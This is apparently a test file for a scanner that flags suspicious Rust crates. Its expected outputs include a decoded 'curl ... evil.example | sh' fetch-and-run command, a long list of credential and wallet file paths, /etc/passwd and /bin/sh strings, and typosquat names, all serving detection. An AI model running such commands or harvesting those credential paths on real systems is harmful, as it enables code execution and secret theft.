import { readdirSync, readFileSync, statSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import Parser from 'tree-sitter';
import Rust from 'tree-sitter-rust';
import { describe, expect, it } from 'vitest';
import { crateIndicators, includeBytesTargets, binaryMagic } from '../src/indicators/package-indicators.js';
import { fileIndicators, type FileContext } from '../src/indicators/file.js';
import { credentialStore, envVarKind, STORE_GATE } from '../src/indicators/patterns.js';
import { collectStringLiterals, extractUrls, hostPortLiteral, unescapeRustString } from '../src/indicators/strings.js';
import { hostOfUrl } from '../src/util/url.js';
import { parsePopularList, typosquats } from '../src/indicators/typosquat.js';

const ROOT = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '..');
const FIX = path.join(ROOT, 'fixtures/indicators');
const parser = new Parser();
parser.setLanguage(Rust as unknown as Parser.Language);
const LIB: FileContext = { buildScript: false, test: false };
const BUILD: FileContext = { buildScript: true, test: false };

function scan(crate: string, rel: string, ctx: FileContext = LIB) {
  const source = readFileSync(path.join(FIX, crate, rel), 'utf8');
  // decoded hosts (issue 18 item 7) are listed only where a fixture has some
  const { hosts, ...rest } = fileIndicators(parser.parse(source).rootNode, source, rel, ctx);
  return hosts.length > 0 ? { ...rest, hosts } : rest;
}

describe('strings', () => {
  it('extracts URLs, strips trailing punctuation, skips placeholder hosts', () => {
    expect(extractUrls('see https://docs.rs/foo/1.0/foo/. ok')).toEqual(['https://docs.rs/foo/1.0/foo/']);
    expect(extractUrls('(http://a.example/c_(d))')).toEqual(['http://a.example/c_(d)']);
    expect(extractUrls('https://{}/x http://%s/ https://${HOST}/a https:// <http://>')).toEqual([]);
    expect(extractUrls('tcp://23.254.165.112:9089/x and tcp://not-an-ip/x')).toEqual(['tcp://23.254.165.112:9089/x']);
    expect(extractUrls('wss://[::1]:80/a?b#c, ftp://u:p@Ftp.Example.com:21/x;')).toEqual(['wss://[::1]:80/a?b#c', 'ftp://u:p@Ftp.Example.com:21/x']);
    expect(extractUrls('xhttp://a.example')).toEqual([]);
    expect(extractUrls('https://github.com/{}/{}')).toEqual(['https://github.com/{}/{}']);
  });

  it('hostOfUrl lower-cases and drops userinfo, port and IPv6 brackets', () => {
    expect(hostOfUrl('ftp://u:p@Ftp.Example.com:21/x')).toBe('ftp.example.com');
    expect(hostOfUrl('wss://[::1]:80/a')).toBe('::1');
    expect(hostOfUrl('https://23.254.165.112:9089/')).toBe('23.254.165.112');
    expect(hostOfUrl('https://{}/x')).toBeNull();
    expect(hostOfUrl('not a url')).toBeNull();
  });

  it('hostPortLiteral accepts host[:port] forms only', () => {
    expect(hostPortLiteral('evil.example:443')).toBe('evil.example');
    expect(hostPortLiteral('1.2.3.4:80')).toBe('1.2.3.4');
    expect(hostPortLiteral('[::1]:8080')).toBe('::1');
    expect(hostPortLiteral('::1')).toBe('::1');
    expect(hostPortLiteral('LocalHost')).toBe('localhost');
    expect(hostPortLiteral('Evil.Example')).toBe('evil.example');
    for (const bad of ['hello', '1.2.3', 'a.example:99999', 'http://x.example', '{}:{}', 'a b:1', '']) {
      expect(hostPortLiteral(bad), bad).toBeNull();
    }
  });

  it('unescapes every Rust string literal form', () => {
    expect(unescapeRustString('"a\\x41\\u{1F600}\\n\\\n    b"')).toBe('aA\u{1F600}\nb');
    expect(unescapeRustString('r#"x"y"#')).toBe('x"y');
    expect(unescapeRustString('br"q"')).toBe('q');
    expect(unescapeRustString('b"\\xff"')).toBe('\u00ff');
    expect(unescapeRustString('c"z"')).toBe('z');
    expect(unescapeRustString('"\\q"')).toBe('\\q');
  });

  it('collects literals with 1-based positions, comments excluded', () => {
    const src = '// "no"\nfn f() {\n    let s = "a\\tb"; m!(r"c");\n}\n';
    expect(collectStringLiterals(parser.parse(src).rootNode, src)).toEqual([
      { value: 'a\tb', line: 3, column: 13, raw: '"a\\tb"' },
      { value: 'c', line: 3, column: 24, raw: 'r"c"' },
    ]);
  });
});

describe('secrets', () => {
  it('build.rs: CI detection and registry token, not cargo build-time variables', () => {
    expect(scan('secrets', 'build.rs', BUILD)).toEqual({
      indicators: [
        { id: 'secrets', file: 'build.rs', line: 5, detail: 'CI detection: env::var("GITLAB_CI")' },
        { id: 'secrets', file: 'build.rs', line: 8, detail: 'token-like env var: std::env::var_os("CARGO_REGISTRY_TOKEN")' },
      ],
      urls: [],
    });
  });

  it('lib: credential stores and token env reads; benign names, methods, ~/.ssh config and known_hosts, cfg(test) are not reported', () => {
    const s = (line: number, detail: string) => ({ id: 'secrets', file: 'src/lib.rs', line, detail });
    expect(scan('secrets', 'src/lib.rs')).toEqual({
      indicators: [
        s(6, 'credential store .cargo/credentials: ".cargo/credentials.toml"'),
        s(7, 'credential store ssh private key: ".ssh/id_ed25519"'),
        s(8, 'credential store .aws/credentials: ".aws/credentials"'),
        s(9, 'credential store .git-credentials: ".git-credentials"'),
        s(10, 'credential store browser store: ".config/google-chrome/Default/Login Data"'),
        s(11, 'credential store wallet store: ".bitcoin/wallet.dat"'),
        s(12, 'credential store .env: ".env"'),
        s(17, 'credential store authorized_keys: "/root/.ssh/authorized_keys"'),
        s(21, 'CI detection: option_env!("GITHUB_ACTIONS")'),
        s(22, 'token-like env var: env!("OPENAI_API_KEY")'),
        s(23, 'token-like env var: std::env::var("AWS_SECRET_ACCESS_KEY")'),
        s(44, 'credential store .ssh: ".ssh"'),
        s(44, 'credential store ssh private key: "id_rsa"'),
        s(45, 'credential store .ssh: ".ssh"'),
        s(46, 'credential store .ssh: ".ssh"'),
      ],
      urls: [],
    });
  });

  it('test code reads of CI variables are not reported', () => {
    const r = scan('secrets', 'build.rs', { buildScript: true, test: true });
    expect(r.indicators).toEqual([]);
  });

  it('classifies environment variable names', () => {
    expect(['GITHUB_TOKEN', 'NPM_TOKEN', 'CLIENT_SECRET', 'DB_PASSWORD', 'STRIPE_API_KEY', 'AWS_REGION', 'CARGO_REGISTRIES_MY_TOKEN'].map(envVarKind)).toEqual(
      ['token', 'token', 'token', 'token', 'token', 'token', 'token'],
    );
    expect(['CI', 'GITLAB_CI', 'GITHUB_ACTIONS', 'JENKINS_URL', 'TRAVIS', 'CIRCLECI'].map(envVarKind)).toEqual(['ci', 'ci', 'ci', 'ci', 'ci', 'ci']);
    expect(['CARGO_PKG_NAME', 'CARGO_CFG_TARGET_OS', 'CARGO_MANIFEST_DIR', 'CARGO_FEATURE_SECRET_KEY', 'DEP_OPENSSL_KEY', 'HOME', 'KEYBOARD', 'OUT_DIR'].map(envVarKind)).toEqual(
      [null, null, null, null, null, null, null, null],
    );
  });

  it('every credential-store rule is reachable through the source gate', () => {
    const named = ['.cargo/credentials', '~/.ssh/', 'id_rsa', 'authorized_keys', '.aws/credentials', '.npmrc', '.pypirc', '.netrc', '.git-credentials', '.docker/config.json', '.kube/config', '.env', 'Login Data', 'Local State', 'cookies.sqlite', 'key4.db', 'Google/Chrome/User Data', 'wallet.dat', 'Exodus/exodus.wallet', 'Electrum/wallets', 'Ethereum/keystore', 'nkbihfbeogaeaoehlefnkodbefgpgknn',
      // issue 18 item 9
      '~/.aws/sso/cache', '.azure/msal_token_cache.json', '.config/gcloud/credentials.db', 'application_default_credentials.json', '.config/solana/id.json',
      '.ethereum/keystore', 'Default/Network/Cookies', 'Default/Local Extension Settings/x', 'fhbohimaelbohpjbbldcngcnapndodjp'];
    for (const v of named) {
      expect(credentialStore(v), v).not.toBeNull();
      STORE_GATE.lastIndex = 0;
      expect(STORE_GATE.test(v), v).toBe(true);
    }
    for (const v of ['.environment', 'the .env file', 'ssh', 'id_rsa_parser', 'Cookies', 'exodus of data', 'aws', '.awsome', 'azure', 'gcloud', 'solana/id', 'id.json', 'Cookies', 'set Cookies', 'keystore', '~/.ssh/known_hosts', '**/.ssh/config', 'C:\\Users\\me\\.ssh\\known_hosts2']) {
      expect(credentialStore(v), v).toBeNull();
    }
    expect(['~/.ssh/id_rsa.pub', '.ssh/', '/home/u/.ssh/config.d/x'].map(credentialStore)).toEqual(['.ssh', '.ssh', '.ssh']);
  });
});

describe('obfuscation', () => {
  it('build.rs: joined base64 fragments (proc-macro1) and an encoded shell command', () => {
    expect(scan('obfuscation', 'build.rs', BUILD)).toEqual({
      indicators: [
        { id: 'obfuscation', file: 'build.rs', line: 3, detail: '2 joined base64 fragments decode to url: "https://23.254.165.112:9089/"' },
        { id: 'obfuscation', file: 'build.rs', line: 5, detail: 'base64 literal decodes to command: "curl -s http://evil.example/x\\t| sh"' },
      ],
      urls: [
        { url: 'https://23.254.165.112:9089/', line: 3 },
        { url: 'http://evil.example/x', line: 5 },
      ],
    });
  });

  it('lib: byte arrays, hex, char casts, xor, escapes, blobs; hashes, vectors, alphabets, b"" and SSH public keys are not', () => {
    const o = (line: number, detail: string) => ({ id: 'obfuscation', file: 'src/lib.rs', line, detail });
    expect(scan('obfuscation', 'src/lib.rs')).toEqual({
      indicators: [
        o(3, 'integer array spells url: "http://10.0.0.7/"'),
        o(10, 'hex literal decodes to path: "/etc/passwd"'),
        o(14, 'integers cast to char spell path: "/bin/sh"'),
        o(20, 'xor over literal data decodes to url: "https://evil.example"'),
        o(24, 'escaped literal spells url: "https://c2.example"'),
        o(27, 'high-entropy literal: 240 chars, 5.80 bits/char'),
        o(44, 'high-entropy literal: 364 chars, 5.88 bits/char'),
      ],
      urls: [
        { url: 'http://10.0.0.7/', line: 3 },
        { url: 'https://evil.example', line: 20 },
        { url: 'https://c2.example', line: 24 },
        { url: 'http://not-obfuscated.example/', line: 33 },
      ],
    });
  });

  it('high-entropy literals are not reported in test code', () => {
    const r = scan('obfuscation', 'src/lib.rs', { buildScript: false, test: true });
    expect(r.indicators.map((i) => i.line)).toEqual([3, 10, 14, 20, 24]);
  });
});

describe('bidi', () => {
  it('reports control characters per line and lint opt-outs in attributes only; marks only outside literals and comments', () => {
    const b = (line: number, detail: string) => ({ id: 'bidi', file: 'src/lib.rs', line, detail });
    expect(scan('bidi', 'src/lib.rs')).toEqual({
      indicators: [
        b(1, 'lint allowed: text_direction_codepoint_in_literal'),
        b(5, 'bidirectional control characters U+202E U+2066 U+2069'),
        b(9, 'lint allowed: text_direction_codepoint_in_comment'),
        b(10, 'bidirectional control characters U+202E'),
        b(19, 'bidirectional control characters U+200F'),
      ],
      urls: [],
    });
  });
});

describe('urls', () => {
  it('string literals only: not comments, doc comments or attributes; test code flagged', () => {
    expect(scan('urls', 'src/lib.rs')).toEqual({
      indicators: [],
      urls: [
        { url: 'https://api.example.com/v1/items?id=1', line: 9 },
        { url: 'https://github.com/{}/{}', line: 10 },
        { url: 'http://203.0.113.9:8080/path', line: 12 },
        { url: 'tcp://198.51.100.7:4444', line: 13 },
        { url: 'ftp://files.example.net/pub', line: 14 },
        { url: 'wss://stream.example.net/socket', line: 14 },
        { url: 'http://raw.example.com/x', line: 15 },
        { url: 'https://second-line.example.com/', line: 17 },
        { url: 'http://127.0.0.1:1234/test-only', line: 26, test: true },
      ],
    });
  });
});

describe('native-code', () => {
  const files = (list: string[]) => list.map((p) => ({ path: p }));

  it('-sys crate: vendored C compiled by cc, prebuilt binaries, include_bytes! of a PE; its C is not obfuscation', async () => {
    const dir = path.join(FIX, 'native-code');
    const src = readFileSync(path.join(dir, 'src/lib.rs'), 'utf8');
    const tree = parser.parse(src);
    const targets = includeBytesTargets(tree.rootNode, src);
    expect(targets).toEqual([
      { path: '../prebuilt/payload.bin', line: 5 },
      { path: '../prebuilt/data.bin', line: 6 },
      { path: '../../../../../etc/hostname', line: 7 },
    ]);
    expect(fileIndicators(tree.rootNode, src, 'src/lib.rs', LIB)).toEqual({ indicators: [], urls: [], hosts: [] });
    const all = files(['Cargo.toml', 'build.rs', 'prebuilt/data.bin', 'prebuilt/libhelper.so', 'prebuilt/payload.bin', 'src/lib.rs', 'vendor/adler32.c', 'vendor/inflate.c', 'vendor/zlib.h']);
    const build = readFileSync(path.join(dir, 'build.rs'), 'utf8');
    expect(await crateIndicators(dir, all, build, targets.map((t) => ({ file: 'src/lib.rs', ...t })))).toEqual([
      { id: 'native-code', file: 'build.rs', line: 3, detail: 'native sources: 3 files (vendor/adler32.c, vendor/inflate.c, vendor/zlib.h) compiled via cc::Build' },
      { id: 'native-code', file: 'prebuilt/libhelper.so', line: 1, detail: 'prebuilt binaries: 2 files (prebuilt/libhelper.so [ELF], prebuilt/payload.bin [PE])' },
      { id: 'native-code', file: 'src/lib.rs', line: 5, detail: 'include_bytes! of a PE binary: "../prebuilt/payload.bin"' },
    ]);
  });

  it('C files without a compiling build script, and Java class files, are not native code', async () => {
    const dir = path.join(FIX, 'native-code-negative');
    const build = readFileSync(path.join(dir, 'build.rs'), 'utf8');
    expect(await crateIndicators(dir, files(['Cargo.toml', 'build.rs', 'examples/ffi_demo.c', 'src/Foo.class', 'src/lib.rs']), build)).toEqual([]);
  });

  it('pkg-config finds a system library and compiles nothing; a header alone is not compiled code', async () => {
    for (const crate of ['native-code-system-lib', 'native-code-header-only']) {
      const dir = path.join(FIX, crate);
      const all = (readdirSync(dir, { recursive: true }) as string[])
        .filter((rel) => statSync(path.join(dir, rel)).isFile())
        .map((rel) => rel.split(path.sep).join('/'))
        .sort();
      expect(all.some((f) => /\.(?:c|h)$/.test(f)), crate).toBe(true);
      expect(await crateIndicators(dir, files(all), readFileSync(path.join(dir, 'build.rs'), 'utf8')), crate).toEqual([]);
    }
    // the same build script with the bundled sources shipped does compile them
    const dir = path.join(FIX, 'native-code-header-only');
    expect(await crateIndicators(dir, files(['build.rs', 'sqlite3/sqlite3.c', 'wrapper.h']), readFileSync(path.join(dir, 'build.rs'), 'utf8'))).toEqual([
      { id: 'native-code', file: 'build.rs', line: 5, detail: 'native sources: 2 files (sqlite3/sqlite3.c, wrapper.h) compiled via cc::Build' },
    ]);
  });

  it('recognizes executable formats by magic bytes', () => {
    const macho = Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1]);
    const fat = Buffer.from([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 2]);
    const java = Buffer.from([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52]);
    const mzText = Buffer.concat([Buffer.from('MZ is also how this text starts'), Buffer.alloc(40, 0x20)]);
    expect([macho, fat, java, mzText, Buffer.from('!<arch>\nxx'), Buffer.from([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0])].map(binaryMagic)).toEqual(
      ['Mach-O', 'Mach-O', null, null, 'ar archive', 'wasm'],
    );
  });
});

describe('typosquat', () => {
  const popular = parsePopularList(readFileSync(path.join(ROOT, 'rules/popular-crates.txt'), 'utf8'));
  const lock = [...readFileSync(path.join(FIX, 'typosquat/Cargo.lock'), 'utf8').matchAll(/^name = "([^"]+)"/gm)].map((m) => m[1]!);

  it('popular list is Debian-derived, separator-normalized input, version suffixes stripped', () => {
    expect(popular.length).toBeGreaterThan(1000);
    for (const n of ['serde', 'serde_json', 'rust-decimal', 'proc-macro2', 'nom', 'sha-1', 'md-5', 'clap']) expect(popular).toContain(n);
    // crates.io's spelling where a crate of that name is unpacked locally (Debian writes env-logger, serde-json)
    expect(popular.filter((n) => ['env_logger', 'env-logger', 'serde_json', 'serde-json', 'num-traits', 'num_traits'].includes(n))).toEqual(['env_logger', 'num-traits', 'serde_json']);
    expect(popular.filter((n) => /[+]|-dev$|^librust/.test(n))).toEqual([]);
  });

  it('flags the fixture lockfile typosquats; serde_json is not a typosquat of serde', () => {
    expect(typosquats(lock, popular)).toEqual([
      { name: 'libcc', similarTo: 'libc', how: 'edit-distance' },
      { name: 'proc-macro1', similarTo: 'proc-macro2', how: 'affix' },
      { name: 'reqwests', similarTo: 'reqwest', how: 'edit-distance' },
      { name: 'rewqest', similarTo: 'reqwest', how: 'edit-distance' },
      { name: 'rust-regex', similarTo: 'regex', how: 'affix' },
      { name: 'rustdecimal', similarTo: 'rust-decimal', how: 'separator' },
      { name: 'tokio-rs', similarTo: 'tokio', how: 'affix' },
      { name: 'traits_num', similarTo: 'num-traits', how: 'reordered' },
    ]);
  });

  it('real names that are other words are not typosquats (fixture lockfile of crates.io names and invented ones)', () => {
    const negative = [...readFileSync(path.join(FIX, 'typosquat-negative/Cargo.lock'), 'utf8').matchAll(/^name = "([^"]+)"/gm)].map((m) => m[1]!);
    expect(negative.length).toBe(8);
    expect(typosquats(negative, popular)).toEqual([]);
  });

  it('word rules: first letters and short words; affixes only when the lockfile name carries them', () => {
    const t = (lock: string, pop: string) => typosquats([lock], [pop]).map((x) => x.how);
    // still typos: inside a word, doubled first letter, added affix or digit
    expect([t('tokio-utils', 'tokio-util'), t('serde_jsn', 'serde_json'), t('sserde', 'serde'), t('memmap2', 'memmap'), t('serde1', 'serde')]).toEqual(
      [['edit-distance'], ['edit-distance'], ['edit-distance'], ['affix'], ['affix']],
    );
    // other words: first letter added/dropped/replaced, a 3-letter word changed, an affix missing, a short digit swap
    expect([t('inotify', 'notify'), t('notify', 'inotify'), t('teqwest', 'reqwest'), t('serde_hjson', 'serde_json'), t('glutin_wgl_sys', 'glutin_egl_sys'), t('encoding', 'encoding_rs'), t('tracing', 'rs-tracing'), t('memmap', 'memmap2'), t('sha1', 'sha2')]).toEqual(
      [[], [], [], [], [], [], [], [], []],
    );
  });

  it('exceptions, lockfile presence and separator-equal names suppress hits', () => {
    expect(typosquats(['reqwests', 'tokio-rs'], ['reqwest', 'tokio'], ['Tokio_RS'])).toEqual([{ name: 'reqwests', similarTo: 'reqwest', how: 'edit-distance' }]);
    expect(typosquats(['reqwests', 'reqwest'], ['reqwest'])).toEqual([]);
    expect(typosquats(['rust_decimal', 'serde_json'], ['rust-decimal', 'serde'])).toEqual([]);
    expect(typosquats(['async_foobar'], ['foobar-async'])).toEqual([{ name: 'async_foobar', similarTo: 'foobar-async', how: 'reordered' }]);
    // short names: substitutions between real crates are not reported, transpositions are
    expect(typosquats(['libm', 'rnad', 'glob'], ['libc', 'rand', 'glib'])).toEqual([{ name: 'rnad', similarTo: 'rand', how: 'edit-distance' }]);
  });

  it('is fast: 500 lock names against the popular list', () => {
    const names = popular.slice(0, 500).map((n, i) => (i % 2 ? `${n}s` : `x${n}`));
    const t = performance.now();
    typosquats(names, popular);
    expect(performance.now() - t).toBeLessThan(500);
  });
});

describe('obfuscation thresholds', () => {
  it('non-ASCII text and decodings are not payloads', () => {
    const unicode = 'ℵ∀∂∃∅∇∈∉∋∏∑−∗√∝∞∠∧∨∩∪∫∴∼≅≈≠≡≤≥⊂⊃⊄⊆⊇⊕⊗⊥⋅⌈⌉⌊⌋〈〉◊♠♣♥♦'.repeat(6);
    const src = `pub const U: &str = "${unicode}";\npub const D: &str = "demangle";\n`;
    expect(fileIndicators(parser.parse(src).rootNode, src, 'src/lib.rs', LIB)).toEqual({ indicators: [], urls: [], hosts: [] });
  });
});
